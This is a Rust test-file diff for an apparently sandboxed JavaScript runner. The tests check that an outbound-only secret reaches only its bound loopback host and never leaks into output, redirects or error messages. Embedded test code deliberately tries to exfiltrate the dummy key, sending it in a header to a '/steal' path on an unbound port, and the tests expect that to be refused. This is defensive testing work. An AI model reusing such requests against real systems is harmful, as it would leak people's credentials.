@@ -24,23 +24,26 @@ fn args(value: serde_json::Value) -> serde_json::Map<String, serde_json::Value> 
 
 /// Answers `count` requests on a loopback port with `respond(path)`, then stops.
 fn http_server(count: usize, respond: impl Fn(&str) -> String + Send + 'static) -> u16 {
+    recording_server(count, move |head| respond(head.split(' ').nth(1).unwrap_or("/"))).0
+}
+
+/// Answers `count` requests on a loopback port with `respond(head)` (request
+/// line and headers), and sends every head it got down the channel.
+fn recording_server(count: usize, respond: impl Fn(&str) -> String + Send + 'static) -> (u16, std::sync::mpsc::Receiver<String>) {
     let listener = TcpListener::bind("127.0.0.1:0").unwrap();
     let port = listener.local_addr().unwrap().port();
+    let (heads, received) = std::sync::mpsc::channel();
     thread::spawn(move || {
         for stream in listener.incoming().take(count) {
             let mut stream = stream.unwrap();
             let mut reader = BufReader::new(stream.try_clone().unwrap());
-            let mut request_line = String::new();
-            reader.read_line(&mut request_line).unwrap();
-            let mut header = String::new();
-            while reader.read_line(&mut header).unwrap() > 2 {
-                header.clear();
-            }
-            let path = request_line.split(' ').nth(1).unwrap_or("/");
-            stream.write_all(respond(path).as_bytes()).unwrap();
+            let mut head = String::new();
+            while reader.read_line(&mut head).unwrap() > 0 && !head.ends_with("\r\n\r\n") {}
+            stream.write_all(respond(&head).as_bytes()).unwrap();
+            let _ = heads.send(head);
         }
     });
-    port
+    (port, received)
 }
 
 fn http_response(status: &str, extra_headers: &str, body: &str) -> String {
@@ -466,4 +469,93 @@ fn globals_the_code_never_names_are_not_installed() {
     assert_eq!(hidden.result, Ok(ToolValue::Text("undefined".into())));
     let named = run("return typeof console");
     assert_eq!(named.result, Ok(ToolValue::Text("object".into())));
+}
+
+const VALUE: &str = "sk-live-0123456789";
+
+/// A run whose `$env.KEY` is an outbound-only secret bound to loopback `port`,
+/// that may also fetch from `other`.
+fn with_outbound_secret(port: u16, other: u16, code: String) -> RunRequest {
+    let mut req = loopback(port, code);
+    req.fetch_allow.push(format!("127.0.0.1:{other}"));
+    req.env.insert("KEY".into(), placeholder("KEY"));
+    req.outbound_secrets = vec![OutboundSecret::new("KEY", VALUE, vec![format!("127.0.0.1:{port}")])];
+    req
+}
+
+/// Echoes the request line and headers back, in the body and in a header.
+fn echo(head: &str) -> String {
+    let line = head.lines().find(|l| l.to_ascii_lowercase().starts_with("authorization")).unwrap_or_default();
+    http_response("200 OK", &format!("X-Echo: {line}\r\n"), head)
+}
+
+#[test]
+fn an_outbound_secret_reaches_its_host_but_never_the_code() {
+    let (port, heads) = recording_server(1, echo);
+    let (other, stray) = recording_server(1, echo);
+    let code = format!(
+        "const k = $env.KEY;\n\
+         console.log('key', k, k.split('').join(' '), JSON.stringify($env));\n\
+         const r = await $fetch('http://127.0.0.1:{port}/echo?key=' + encodeURIComponent(k), {{ headers: {{ Authorization: 'Bearer ' + k }} }});\n\
+         const refused = await $fetch('http://127.0.0.1:{other}/steal', {{ headers: {{ 'x-key': k }} }}).then(() => 'sent', e => e.message);\n\
+         return {{ k, spread: [...k].join(' '), body: await r.text(), echo: r.headers['x-echo'], length: r.headers['content-length'], refused }};"
+    );
+    let outcome = run_blocking(with_outbound_secret(port, other, code));
+    let head = heads.recv_timeout(Duration::from_secs(5)).expect("the bound host was called");
+    assert!(head.starts_with(&format!("GET /echo?key={VALUE} ")), "{head}");
+    assert!(head.contains(&format!("authorization: Bearer {VALUE}\r\n")), "{head}");
+    assert!(stray.recv_timeout(Duration::from_millis(300)).is_err(), "nothing reached the unbound host");
+
+    let seen = serde_json::to_string(&outcome).unwrap();
+    assert!(!seen.contains("0123456789") && !seen.contains("0 1 2 3"), "{seen}");
+    let Ok(ToolValue::Json(result)) = outcome.result else { panic!("{:?}", outcome.result) };
+    assert_eq!(result["k"], "{{secret:KEY}}");
+    assert!(result["body"].as_str().unwrap().contains("authorization: Bearer {{secret:KEY}}"), "{result}");
+    assert!(result["body"].as_str().unwrap().starts_with("GET /echo?key={{secret:KEY}} "), "{result}");
+    assert_eq!(result["echo"], "authorization: Bearer {{secret:KEY}}");
+    assert_eq!(result["length"], result["body"].as_str().unwrap().len().to_string(), "the value's length is not told");
+    assert_eq!(
+        result["refused"],
+        format!("$fetch refused: secret KEY may be sent only to 127.0.0.1:{port} (an entry without a port means 80 and 443), not to 127.0.0.1:{other}; nothing was sent")
+    );
+}
+
+#[test]
+fn a_redirect_off_the_bound_host_never_carries_the_value() {
+    let (other, landed) = recording_server(2, echo);
+    // The bound host sends the code elsewhere: with its header, and with the value in the location.
+    for (location, outcome) in
+        [(format!("http://127.0.0.1:{other}/landing"), "landed"), (format!("http://127.0.0.1:{other}/landing?k={VALUE}"), "refused")]
+    {
+        let header = format!("Location: {location}\r\n");
+        let (port, heads) = recording_server(1, move |_| http_response("302 Found", &header, ""));
+        let code = format!(
+            "return await $fetch('http://127.0.0.1:{port}/go', {{ headers: {{ 'x-key': $env.KEY, 'x-plain': 'kept' }} }})\n\
+               .then(r => r.text(), e => e.message);"
+        );
+        let result = run_blocking(with_outbound_secret(port, other, code)).result;
+        assert!(heads.recv_timeout(Duration::from_secs(5)).unwrap().contains(&format!("x-key: {VALUE}")), "the bound host got it");
+        match outcome {
+            "landed" => {
+                let head = landed.recv_timeout(Duration::from_secs(5)).expect("the redirect was followed");
+                assert!(head.contains("x-plain: kept") && !head.contains("x-key") && !head.contains(VALUE), "{head}");
+            }
+            _ => {
+                let Ok(ToolValue::Text(message)) = result else { panic!("{result:?}") };
+                assert!(message.starts_with("$fetch refused: secret KEY may be sent only to"), "{message}");
+                assert!(!message.contains(VALUE), "{message}");
+                assert!(landed.recv_timeout(Duration::from_millis(300)).is_err(), "nothing reached the other host");
+            }
+        }
+    }
+}
+
+#[test]
+fn errors_of_a_request_carrying_the_value_name_only_its_placeholder() {
+    // A closed port: the connection error names the URL that was being sent.
+    let closed = TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
+    let code = format!("return await $fetch('http://127.0.0.1:{closed}/?key=' + $env.KEY).then(() => 'sent', e => e.message);");
+    let outcome = run_blocking(with_outbound_secret(closed, closed, code));
+    let Ok(ToolValue::Text(message)) = outcome.result else { panic!("{:?}", outcome.result) };
+    assert!(!message.contains(VALUE) && !message.contains("0123456789"), "{message}");
 }
